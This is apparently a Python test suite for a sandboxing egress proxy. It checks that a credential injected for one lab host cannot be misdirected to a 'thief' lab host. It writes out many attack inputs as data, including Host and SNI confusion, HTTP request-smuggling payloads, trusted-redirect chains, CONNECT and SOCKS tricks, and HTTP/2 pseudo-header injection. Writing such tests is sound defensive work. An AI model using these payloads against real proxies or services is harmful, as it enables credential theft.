# SPDX-License-Identifier: Apache-2.0
"""A program inside tries to have a credential sent elsewhere, in more than a hundred ways: by names, addresses, ports, redirects, framing,
HTTP/2, the explicit proxy, encodings. The credential belongs to one host (the owner); another host (the thief), which the policy allows
without a credential and whose certificate is valid for the owner's name too, notes every byte it gets. After each way no server but the
owner has seen the value, and the owner has seen it only where it belongs. With VETHGUARD_LONG=1 (`make check-misdirections`) every way is
tried with every way of injecting, otherwise with bearer."""
import json
import os
import re
import socket
import socketserver
import ssl
import threading
import unittest
import urllib.parse

import lab
import support
from support import policy

OWNER, THIEF, REBOUND, PASSED = "owner.one.lab.test", "thief.real.lab.test", "rebound.lab.test", "pass.real.lab.test"
VALUE = "m1sdirected-Value/of+the=Battery"
TOGETHER = 16  # so many ways at a time
LONG = bool(os.environ.get("VETHGUARD_LONG"))
KINDS = {"bearer": "inject: bearer", "basic": "inject: basic, username: agent", "header": "inject: header, header: X-Key",
         "query": "inject: query, query: api_key", "cookie": "inject: cookie, cookie: session",
         "placeholder": "inject: placeholder, in: [header, basic, query, path, form, json]"}


class Handler(socketserver.BaseRequestHandler):
    """Notes what comes, and answers each request. The owner redirects where the path says."""

    def handle(self):
        note = {"server": self.server.name, "port": self.server.server_address[1], "sni": getattr(self.request, "asked_name", None), "data": b""}
        self.server.notes.append(note)
        self.request.settimeout(10)
        try:
            self.serve(note)
        except OSError:
            pass

    def serve(self, note):
        rest = b""
        while True:
            while b"\r\n\r\n" not in rest:
                piece = self.request.recv(65536)
                if not piece:
                    return
                note["data"] += piece
                rest += piece
            head, _, rest = rest.partition(b"\r\n\r\n")
            length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
            while length and len(rest) < int(length[1]):
                piece = self.request.recv(65536)
                if not piece:
                    return
                note["data"] += piece
                rest += piece
            rest = rest[int(length[1]):] if length else rest
            self.request.sendall(self.answer(head))

    @staticmethod
    def answer(head):
        moved = re.match(rb"\S+ /to/(\d+)/([^ ?]*)", head)
        if not moved:
            return b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        to = urllib.parse.unquote_to_bytes(moved[2])
        return (b"HTTP/1.1 %s Moved\r\nLocation: %s\r\nContent-Location: %s\r\nRefresh: 0; url=%s\r\nLink: <%s>; rel=preload\r\nAlt-Svc: h2=\"%s:443\"; ma=60\r\n"
                b"Content-Length: 0\r\n\r\n" % (moved[1], to, to, to, to, THIEF.encode()))


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True

    def __init__(self, name, address, port, notes, tls):
        self.name, self.notes = name, notes
        super().__init__((address, port), Handler)
        if tls:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.context.load_cert_chain(support.LAB.path("server.pem"), support.LAB.path("server.key"))
            self.context.set_alpn_protocols(["http/1.1"])
            self.context.sni_callback = lambda s, name, _: setattr(s, "asked_name", name)
        else:
            self.context = None
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def finish_request(self, request, client):
        if self.context:
            request.settimeout(10)
            try:
                request = self.context.wrap_socket(request, server_side=True)
            except (OSError, ValueError):
                return
        super().finish_request(request, client)

    def handle_error(self, *_):
        """Ignores errors: the tests end connections."""


def ways():
    """Returns {name: (kind, ...)}: what a program inside does, see INSIDE."""
    w, get, post = {}, "GET {} HTTP/1.1\r\n", "POST / HTTP/1.1\r\n"
    end = "\r\n\r\n"

    def at_thief(name, text, **kw):
        w[name] = ("tls", kw.get("dial", THIEF), kw.get("sni", THIEF), text)
    for name, host in {"the owner's name": OWNER, "upper case": OWNER.upper(), "a trailing dot": OWNER + ".", "two dots": OWNER + "..", "a port": OWNER + ":443",
                       "another port": OWNER + ":8443", "a port with zeros": OWNER + ":0443", "no port": OWNER + ":", "a port and letters": OWNER + ":443x",
                       "a user": "x@" + OWNER, "the thief as a user": f"{THIEF}@{OWNER}", "the thief's port and a user": f"{THIEF}:443@{OWNER}", "a list": f"{THIEF}, {OWNER}",
                       "a blank": f"{THIEF} {OWNER}", "a tab before": "\t" + OWNER, "a percent escape": OWNER.replace(".", "%2e"), "a slash": f"{OWNER}/{THIEF}",
                       "a NUL": f"{OWNER}\0.{THIEF}", "full-width dots": OWNER.replace(".", "\u3002"), "a Cyrillic letter": OWNER.replace("o", "\u043e"),
                       "an A-label": "xn--owner-.one.lab.test", "an address": lab.PLAIN4, "a decimal address": "174260306", "a hex address": "0x0a630052",
                       "an octal address": "012.0143.0.0122", "a short address": "10.99.82", "a mapped address": f"[::ffff:{lab.PLAIN4}]", "a question mark": f"{OWNER}?{THIEF}",
                       "a number sign": f"{OWNER}#{THIEF}", "a backslash": f"{OWNER}\\@{THIEF}", "nothing": ""}.items():
        at_thief("Host with " + name, get.format("/") + f"Host: {host}" + end)
    for name, target in {"the owner": f"https://{OWNER}/", "the owner over http": f"http://{OWNER}/", "the owner with a port": f"https://{OWNER}:443/",
                         "a user": f"https://{OWNER}@{THIEF}/", "the thief as a user": f"https://{THIEF}@{OWNER}/", "a backslash": f"https://{OWNER}\\@{THIEF}/",
                         "no slashes": f"https:{OWNER}/", "another scheme": f"ws://{OWNER}/", "two slashes": f"//{OWNER}/", "upper case": f"HTTPS://{OWNER.upper()}/"}.items():
        for host in (OWNER, THIEF):
            at_thief(f"absolute target, {name}, Host {host}", get.format(target) + f"Host: {host}" + end)
    for name, lines in {"two Hosts": f"Host: {THIEF}\r\nHost: {OWNER}", "two Hosts, turned": f"Host: {OWNER}\r\nHost: {THIEF}", "a folded Host": f"Host: {THIEF}\r\n {OWNER}",
                        "a bare LF": f"Host: {THIEF}\nHost: {OWNER}", "a bare CR": f"Host: {THIEF}\rHost: {OWNER}", "a blank before the colon": f"Host: {THIEF}\r\nHost : {OWNER}",
                        "no Host": "X: y", "X-Forwarded-Host": f"Host: {THIEF}\r\nX-Forwarded-Host: {OWNER}", "Forwarded": f"Host: {THIEF}\r\nForwarded: host={OWNER}",
                        "X-Original-URL": f"Host: {THIEF}\r\nX-Original-URL: https://{OWNER}/", "X-Host": f"Host: {THIEF}\r\nX-Host: {OWNER}",
                        "Origin and Referer": f"Host: {THIEF}\r\nOrigin: https://{OWNER}\r\nReferer: https://{OWNER}/", "Via": f"Host: {THIEF}\r\nVia: 1.1 {OWNER}",
                        "Upgrade: h2c": f"Host: {OWNER}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
                        "Upgrade: TLS": f"Host: {OWNER}\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2",
                        "Upgrade: websocket": f"Host: {OWNER}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==",
                        "Proxy-Authorization": f"Host: {THIEF}\r\nProxy-Authorization: Basic eDp5"}.items():
        at_thief("fields: " + name, get.format("/") + lines + end)
    inner = f"GET /inner HTTP/1.1\r\nHost: {OWNER}\r\n\r\n"
    for name, lines in {"length and chunked": f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked", "chunked and length": f"Transfer-Encoding: chunked\r\nContent-Length: {len(inner) + 5}",
                        "a blank before the colon": "Transfer-Encoding : chunked", "xchunked": "Transfer-Encoding: xchunked", "chunked twice": "Transfer-Encoding: chunked, chunked",
                        "a tab": "Transfer-Encoding:\tchunked", "two lengths": f"Content-Length: 0\r\nContent-Length: {len(inner)}", "a signed length": "Content-Length: +0",
                        "a hex length": "Content-Length: 0x0", "a list of lengths": f"Content-Length: 0, {len(inner)}", "a long length": "Content-Length: 00000000000000000000000"}.items():
        at_thief("smuggling: " + name, post + f"Host: {THIEF}\r\n{lines}" + end + "0\r\n\r\n" + inner)
    at_thief("smuggling: a chunk's extension", post + f"Host: {THIEF}\r\nTransfer-Encoding: chunked" + end + f"1;\n{inner}\r\nx\r\n0\r\n\r\n")
    at_thief("smuggling: a chunk that wraps", post + f"Host: {THIEF}\r\nTransfer-Encoding: chunked" + end + "fffffffffffffffff\r\nx\r\n0\r\n\r\n" + inner)
    at_thief("smuggling: trailers", post + f"Host: {THIEF}\r\nTransfer-Encoding: chunked\r\nTE: trailers" + end + f"0\r\nHost: {OWNER}\r\nAuthorization: x\r\n\r\n")
    at_thief("pipelined behind a request of the thief's", get.format("/") + f"Host: {THIEF}" + end + inner)
    at_thief("HTTP/1.0 with the owner's name", f"GET / HTTP/1.0\r\nHost: {OWNER}" + end)
    at_thief("HTTP/0.9", f"GET https://{OWNER}/" + "\r\n")
    at_thief("HTTP/2.0 as a version", f"GET / HTTP/2.0\r\nHost: {OWNER}" + end)
    at_thief("CONNECT inside TLS", f"CONNECT {OWNER}:443 HTTP/1.1\r\nHost: {OWNER}:443" + end + inner)
    at_thief("TRACE", f"TRACE / HTTP/1.1\r\nHost: {OWNER}\r\nMax-Forwards: 0" + end)
    at_thief("OPTIONS *", f"OPTIONS * HTTP/1.1\r\nHost: {OWNER}" + end)
    for name, dial, sni, host in (("SNI thief, dialed owner", OWNER, THIEF, OWNER), ("SNI thief, dialed owner, Host thief", OWNER, THIEF, THIEF), ("SNI owner, dialed thief", THIEF, OWNER, OWNER),
                                  ("SNI owner, dialed thief, Host thief", THIEF, OWNER, THIEF), ("no SNI, dialed thief", THIEF, "", OWNER), ("no SNI, dialed owner, Host thief", OWNER, "", THIEF),
                                  ("SNI in upper case, dialed thief", THIEF, OWNER.upper(), OWNER), ("the thief's real address, SNI owner", lab.REAL4, OWNER, OWNER),
                                  ("the thief's real address, no SNI", lab.REAL4, "", OWNER), ("another allowed name at the thief's address", PASSED, OWNER, OWNER)):
        at_thief("TLS: " + name, get.format("/") + f"Host: {host}" + end, dial=dial, sni=sni)
    for port in (80, 8443):
        for dial in (OWNER, THIEF):
            w[f"port {port} of {dial}"] = ("plain" if port == 80 else "tls", dial, port if port == 80 else OWNER, get.format("/") + f"Host: {OWNER}:{port}" + end, port)
    w["plain bytes on 443"] = ("plain", OWNER, 443, get.format("/") + f"Host: {OWNER}" + end, 443)
    for code in (301, 302, 303, 307, 308):
        for name, to in {"the thief": f"https://{THIEF}/stolen", "the thief over http": f"http://{THIEF}/stolen", "itself over http": f"http://{OWNER}/stolen",
                         "itself at another port": f"https://{OWNER}:8443/stolen", "no scheme": f"//{THIEF}/stolen", "a user": f"https://{OWNER}@{THIEF}/stolen"}.items():
            if code in (302, 307) or name == "the thief":
                w[f"redirect {code} to {name}"] = ("curl", ["-L", "--location-trusted", f"https://{OWNER}/to/{code}/{urllib.parse.quote(to, safe='')}"])
    w["alternative service"] = ("curl", ["--alt-svc", "/tmp/altsvc", f"https://{OWNER}/to/200/x", "--next", "--alt-svc", "/tmp/altsvc", f"https://{OWNER}/"])
    w["connect-to the thief"] = ("curl", ["--connect-to", f"{OWNER}:443:{THIEF}:443", f"https://{OWNER}/"])
    w["connect-to the thief's address"] = ("curl", ["-k", "--connect-to", f"{OWNER}:443:{lab.REAL4}:443", f"https://{OWNER}/"])
    w["the owner's name leads to the thief"] = ("curl", [f"https://{REBOUND}/"])
    w["a name with another case and a dot"] = ("curl", [f"https://{THIEF.upper()}./", "-H", f"Host: {OWNER}"])
    w["a passthrough"] = ("tls-own", PASSED, PASSED, get.format("/") + f"Host: {OWNER}" + end)
    for name, (authority, sni, host) in {"CONNECT owner, SNI thief": (OWNER + ":443", THIEF, OWNER), "CONNECT owner, Host thief": (OWNER + ":443", OWNER, THIEF),
                                         "CONNECT thief, SNI owner": (THIEF + ":443", OWNER, OWNER), "CONNECT the thief's address": (lab.REAL4 + ":443", OWNER, OWNER),
                                         "CONNECT owner at 8443": (OWNER + ":8443", OWNER, OWNER + ":8443"), "CONNECT a user": (f"{OWNER}@{THIEF}:443", OWNER, OWNER)}.items():
        w["proxy: " + name] = ("connect", authority, sni, get.format("/") + f"Host: {host}" + end)
        w["SOCKS5: " + name.replace("CONNECT ", "")] = ("socks", authority, sni, get.format("/") + f"Host: {host}" + end)
    for name, (target, host) in {"https": (f"https://{OWNER}/", OWNER), "http": (f"http://{OWNER}/", OWNER), "http, Host thief": (f"http://{OWNER}/", THIEF),
                                 "http thief, Host owner": (f"http://{THIEF}/", OWNER), "http at 443": (f"http://{OWNER}:443/", OWNER)}.items():
        w["proxy: a whole URL, " + name] = ("proxy", get.format(target) + f"Host: {host}" + end)
    for name, fields in {":authority owner": [(":authority", OWNER)], ":authority thief, host owner": [(":authority", THIEF), ("host", OWNER)],
                         ":authority owner, host thief": [(":authority", OWNER), ("host", THIEF)], "two :authority": [(":authority", THIEF), (":authority", OWNER)],
                         "no :authority, host owner": [("host", OWNER)], ":authority with a user": [(":authority", f"{THIEF}@{OWNER}")], ":authority with a port": [(":authority", OWNER + ":8443")],
                         ":scheme http": [(":scheme", "http"), (":authority", OWNER)], ":path absolute": [(":path", f"https://{OWNER}/"), (":authority", THIEF)],
                         "a line end in :authority": [(":authority", f"{THIEF}\r\nhost: {OWNER}")], "a line end in a field": [(":authority", THIEF), ("x", f"y\r\nhost: {OWNER}")],
                         "connection: authorization": [(":authority", OWNER), ("connection", "authorization")], ":method CONNECT": [(":method", "CONNECT"), (":authority", OWNER + ":443")],
                         ":protocol": [(":method", "CONNECT"), (":protocol", "websocket"), (":authority", OWNER)], "upper case": [(":authority", THIEF), ("Host", OWNER)]}.items():
        w["HTTP/2 at the thief: " + name] = ("h2", THIEF, THIEF, fields)
    w["HTTP/2 at the owner: :authority thief"] = ("h2", OWNER, OWNER, [(":authority", THIEF)])
    for name, lines in {"authorization": "Connection: authorization, x-key, cookie", "close and authorization": "Connection: close, authorization", "keep-alive": "Keep-Alive: authorization"}.items():
        w["Connection names it: " + name] = ("tls", OWNER, OWNER, get.format("/") + f"Host: {OWNER}\r\n{lines}" + end)
    for name, text in {"in a field": "X: PLACE", "in a cookie": "Cookie: a=PLACE", "as Basic": "Authorization: Basic BASIC", "as Bearer": "Authorization: Bearer PLACE"}.items():
        at_thief("the placeholder to the thief " + name, get.format("/") + f"Host: {THIEF}\r\n{text}" + end)
    at_thief("the placeholder to the thief in the query", get.format("/?q=PLACE") + f"Host: {THIEF}" + end)
    at_thief("the placeholder to the thief in a body", post + f"Host: {THIEF}\r\nContent-Type: application/json\r\nContent-Length: {{N}}" + end + '{"a": "PLACE"}')
    return w


INSIDE = r'''
import base64, json, os, subprocess
def take(s):
    try:
        s.settimeout(0.4)
        while s.recv(65536):
            pass
    except (OSError, ValueError):
        pass
    s.close()
def text_of(text):
    place = os.environ.get("PLACE", "vethguard-x")
    body = text.split("\r\n\r\n", 1)[-1].replace("PLACE", place)
    return text.replace("BASIC", base64.b64encode(("user:" + place).encode()).decode()).replace("PLACE", place).replace("{N}", str(len(body))).encode("utf-8", "surrogateescape")
def block(fields):
    known = {":method": "GET", ":scheme": "https", ":path": "/"}
    named = [n for n, _ in fields]
    rows = [(n, v) for n, v in known.items() if n not in named] + list(fields)
    rows.sort(key=lambda row: not row[0].startswith(":"))
    return b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in rows)
def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
def socks(authority):
    host, port = authority.rsplit(":", 1)
    s = socket.create_connection((gate(), PROXY_PORT), 10)
    s.sendall(b"\5\1\0")
    s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(host)]) + host.encode() + int(port).to_bytes(2, "big"))
    if s.recv(10)[1:2] != b"\0":
        raise OSError("refused")
    return s
def one(way):
    kind = way[0]
    if kind == "curl":
        subprocess.run(["curl", "-sS", "-m", "5", "-o", "/dev/null", *way[1]], capture_output=True, timeout=30)
        return
    if kind in ("tls", "tls-own"):
        s = tls(way[1], way[4] if len(way) > 4 else 443, sni=way[2], verify=False, timeout=5)
        s.sendall(text_of(way[3]))
    elif kind == "plain":
        s = connect(way[1], way[4], 5)
        s.sendall(text_of(way[3]))
    elif kind == "connect":
        s, status, _ = proxy_connect(way[1])
        if status != 200:
            return
        s = tls(None, sni=way[2], verify=False, sock=s)
        s.sendall(text_of(way[3]))
    elif kind == "socks":
        s = tls(None, sni=way[2], verify=False, sock=socks(way[1]))
        s.sendall(text_of(way[3]))
    elif kind == "proxy":
        s = socket.create_connection((gate(), PROXY_PORT), 5)
        s.sendall(text_of(way[1]))
    elif kind == "h2":
        s = tls(way[1], sni=way[2], verify=False, timeout=5, alpn=("h2",))
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, block(way[3])))
    take(s)
def safe(way):
    try:
        one(way)
    except (OSError, ValueError, EOFError, subprocess.TimeoutExpired):
        pass
threads = [threading.Thread(target=safe, args=(way,)) for way in json.loads(WAYS)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print("done")
'''


class Misdirections(support.Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.notes = []
        support.LAB.write("misdirected", VALUE + "\n", 0o600)

        def start():
            return [Server(name, address, port, cls.notes, tls) for name, address in (("owner", lab.PLAIN4), ("thief", lab.REAL4))
                    for port, tls in ((443, True), (8443, True), (80, False))]
        cls.servers = support.in_namespace("outside", start)

    @classmethod
    def tearDownClass(cls):
        for server in cls.servers:
            server.shutdown()
            server.server_close()
        super().tearDownClass()

    def box(self, inject):
        config = support.LAB.write("misdirections.yaml", support.LAB.config().replace("resolver:\n", f"resolver:\n  hosts: {{{REBOUND}: {lab.REAL4}}}\n"))
        credentials = f"  api: {{source: 'file:{support.LAB.path('misdirected')}', {inject}, env: PLACE}}\n"
        return self.sandbox(policy(f"{{to: 'https://{OWNER}', credential: api}}", f"{{to: 'https://{REBOUND}', credential: api}}", f"https://{THIEF}", f"https://{THIEF}:8443",
                                   f"http://{THIEF}", f"http://{OWNER}", f"https://{OWNER}:8443", f"{{to: 'https://{PASSED}', tls: passthrough}}", f"https://{lab.REAL4}",
                                   credentials=credentials), config=config)

    def forget(self):
        """Discards what came so far. Connections stay, and may be used again."""
        for note in list(self.notes):
            note["data"] = b""

    def misdirected(self):
        """Returns where the value was seen and does not belong."""
        rows = []
        for note in list(self.notes):
            heads = note["data"].split(b"\r\n\r\n")
            for head in heads:
                if not support.holds_secret(head, VALUE):
                    continue
                hosts = re.findall(rb"(?i)\r\nhost: *([^\r]*)", head)
                if (note["server"], note["port"], note["sni"]) != ("owner", 443, OWNER) or hosts not in ([OWNER.encode()], [OWNER.encode() + b":443"]):
                    rows.append((note["server"], note["port"], note["sni"], head[:300]))
        return rows + [row for row in self.seen() if support.holds_secret(json.dumps(row), VALUE)]

    def go_through(self, kind, inject):
        box = self.box(inject)
        every = ways()
        self.assertGreaterEqual(len(every), 60)
        control = ("tls", OWNER, OWNER, f"GET /control?k=PLACE HTTP/1.1\r\nHost: {OWNER}\r\nX: PLACE\r\n\r\n" if kind == "placeholder" else f"GET /control HTTP/1.1\r\nHost: {OWNER}\r\n\r\n")

        def goes(*rows):
            done = box.py(f"WAYS = {json.dumps(rows)!r}\n" + INSIDE, timeout=60)
            self.assertEqual(done.out, "done\n", done)
        def owner_has_it():
            return [n for n in list(self.notes) if n["server"] == "owner" and support.holds_secret(n["data"], VALUE)]
        names = list(every)
        for some in (names[i:i + TOGETHER] for i in range(0, len(names), TOGETHER)):
            self.forget()
            goes(control, *(every[name] for name in some))
            self.assertTrue(support.wait_until(owner_has_it), ("the owner gets it", box.stderr(), box.events()[-2:]))
            for name in some if self.misdirected() else ():  # which of them
                with self.subTest(kind=kind, way=name):
                    self.forget()
                    goes(every[name])
                    self.assertEqual(self.misdirected(), [])
            self.assertEqual(self.misdirected(), [], some)
        denied = [e for e in box.events() if e["class_uid"] in (support.HTTP, support.NETWORK) and e["action_id"] == 2]
        self.assertGreater(len(denied), 100)  # the ways do reach vethguard
        return len(every)

    def test_ways(self):
        for kind, inject in KINDS.items():
            if LONG or kind == "bearer":
                count = self.go_through(kind, inject)
        self.assertGreater(count, 100)

    def test_the_check_can_fail(self):
        """A policy that gives the thief the credential is found out."""
        box = self.sandbox(policy(f"{{to: 'https://{THIEF}', credential: api}}", credentials=f"  api: {{source: 'file:{support.LAB.path('misdirected')}', inject: bearer}}\n"))
        self.forget()
        box.py(f"s = tls('{THIEF}'); s.sendall(request('GET', '/', '{THIEF}')); s.recv(100)")
        self.assertTrue(self.misdirected())


if __name__ == "__main__":
    unittest.main()
